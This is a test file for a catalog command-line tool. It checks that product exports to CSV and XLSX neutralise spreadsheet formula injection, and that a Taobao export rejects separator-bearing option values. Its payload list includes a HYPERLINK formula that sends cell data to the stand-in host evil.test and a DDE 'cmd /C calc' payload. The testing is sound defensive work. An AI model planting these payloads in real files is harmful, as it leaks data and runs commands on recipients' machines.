/**
 * Hostile OUTPUT in the catalog's own files: products whose title, vendor, option values and SKU
 * start a formula (OWASP's = + - @ TAB CR) are imported, then exported in every layout and format;
 * the results file of the import too. No cell runs; negative and plain numbers stay numbers. A
 * value 淘宝助理's layout cannot hold is refused naming the product (exit 3, no file left).
 */
import { existsSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { stringify } from "csv-stringify/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { importCatalog, localStores } from "../helpers/catalog.js";
import { runCli } from "../helpers/cli.js";
import { liveCsvCells, scanWorkbook } from "./output-helpers.js";

const FORMULAS = ['=HYPERLINK("http://evil.test/?"&A1,"x")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "\tTAB", "=1+1", "\rCR"];
const stores = localStores(["shop"]);
const at = (name: string) => join(stores.dir, name);
afterAll(() => stores.cleanup());

beforeAll(async () => {
  const rows: string[][] = [["handle", "title", "sku", "price", "vendor", "option1 name", "option1 value"]];
  FORMULAS.forEach((f, i) => {
    rows.push([`h-${i}`, f, `S-${i}`, "12.00", f, "Size", f.replace(/[:;,\t\r\n]/g, " ")]);
  });
  writeFileSync(at("f.csv"), stringify(rows));
  for (const results of ["results.xlsx", "results.csv"]) {
    const { r } = await importCatalog(stores.dir, ["f.csv", "--store", "shop", "--results", results]);
    expect(r.exitCode, r.stderr).toBe(0);
  }
  for (const layout of ["native", "shopify", "woocommerce"]) {
    for (const ext of ["csv", "xlsx"]) {
      const r = await runCli(["catalog", "export", "--store", "shop", "--to-format", layout, "--out", `${layout}.${ext}`], {
        cwd: stores.dir,
      });
      expect(r.exitCode, r.stderr).toBe(0);
    }
  }
}, 300_000);

describe("formula triggers in catalog files", () => {
  it.each(["results", "native", "shopify", "woocommerce"])("%s.csv: no cell starts a formula", (name) => {
    expect(liveCsvCells(at(`${name}.csv`))).toEqual([]);
  });

  it.each(["results", "native", "shopify", "woocommerce"])("%s.xlsx: no formula, no trigger-led text", async (name) => {
    const scan = await scanWorkbook(at(`${name}.xlsx`));
    expect(scan.live).toEqual([]);
    // The titles are there, quoted as text, so the merchant still sees what they wrote (the results file has none).
    if (name !== "results") expect(scan.strings).toEqual(expect.arrayContaining([`'${FORMULAS[0]}`, "'@SUM(1+1)"]));
  });

  it("a 淘宝助理 export refuses an option value holding its separator: exit 3 naming product and value, no file", async () => {
    const rows = [
      ["handle", "title", "sku", "price", "option1 name", "option1 value"],
      ["ratio", "Ratio cable", "R-1", "9.90", "Size", "1:2"],
    ];
    writeFileSync(at("sep.csv"), stringify(rows));
    const { r } = await importCatalog(stores.dir, ["sep.csv", "--store", "shop"]);
    expect(r.exitCode, r.stderr).toBe(0);
    const out = await runCli(["catalog", "export", "--store", "shop", "--to-format", "taobao", "--out", "tb.csv"], { cwd: stores.dir });
    expect(out.exitCode, out.stderr).toBe(3);
    expect(out.stderr).toMatch(/tb\.csv: product ratio: its size "1:2" holds ":"/);
    expect(out.stderr).not.toMatch(/internal error|at \w+ \(/);
    expect(existsSync(at("tb.csv"))).toBe(false);
    const zh = await runCli(["catalog", "export", "--store", "shop", "--to-format", "taobao", "--out", "tb.csv", "--lang", "zh"], {
      cwd: stores.dir,
    });
    expect(zh.exitCode).toBe(3);
    expect(zh.stderr).toContain("商品 ratio");
  });
});
